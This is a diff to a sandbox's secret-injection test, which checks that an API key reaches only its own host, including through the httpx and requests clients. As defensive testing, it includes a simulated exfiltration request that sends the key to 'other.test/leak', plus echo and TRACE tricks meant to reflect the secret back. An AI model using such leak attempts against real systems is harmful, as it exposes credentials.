@@ -133,6 +133,11 @@ def get(url):
 print("plain:", get("http://api.test:{plain}/v1"))
 print("elsewhere:", get("http://other.test:{plain}/leak?k=" + key))
 print("tls:", get("https://secure.test:{tls}/v1"))
+# The clients API SDKs are built on (httpx under OpenAI's and Anthropic's) trust the kernel's CA too.
+import httpx, requests
+bearer = {"Authorization": "Bearer " + key}
+print("httpx:", httpx.get("https://secure.test:{tls}/httpx", headers=bearer, timeout=30).text)
+print("requests:", requests.get("https://secure.test:{tls}/requests", headers=bearer, timeout=30).text)
 # Ways to make the host send the value back: the request line, a header servers echo, TRACE, a
 # request for another site in full: the first three get the placeholder, TRACE and the last nothing.
 def raw(request):
@@ -199,6 +204,7 @@ async fn a_secret_goes_only_to_its_host_and_never_into_the_kernel() {
     assert!(text.contains("reflected: refused") && text.contains("absolute: refused"), "{text}");
     assert!(text.contains("elsewhere: ok"), "{text}");
     assert!(text.contains("tls: ok"), "the kernel trusted its own CA for secure.test: {text}");
+    assert!(text.contains("httpx: ok") && text.contains("requests: ok"), "{text}");
     assert!(text.contains("in memory: 0"), "{text}");
     assert!(!text.contains(&value()), "{text}");
     let heads = heads.lock().unwrap().clone();
@@ -215,6 +221,9 @@ async fn a_secret_goes_only_to_its_host_and_never_into_the_kernel() {
     assert!(elsewhere.contains("Bearer cellbox-secret:API_KEY"), "another host gets the placeholder: {heads:?}");
     assert!(!elsewhere.contains(&value()), "{heads:?}");
     assert!(to(&["GET /v1 ", "Host: secure.test"]).contains(&format!("Bearer {}", value())), "over TLS: {heads:?}");
+    for client in ["/httpx ", "/requests "] {
+        assert!(to(&[client]).contains(&format!("Bearer {}", value())), "{client}: {heads:?}");
+    }
     let echo = to(&["GET /echo/cellbox-secret:API_KEY "]);
     assert!(echo.contains("Origin: cellbox-secret:API_KEY") && !echo.contains(&value()), "{heads:?}");
     assert!(!heads.iter().any(|head| head.starts_with("TRACE") || head.contains("evil.test")), "{heads:?}");
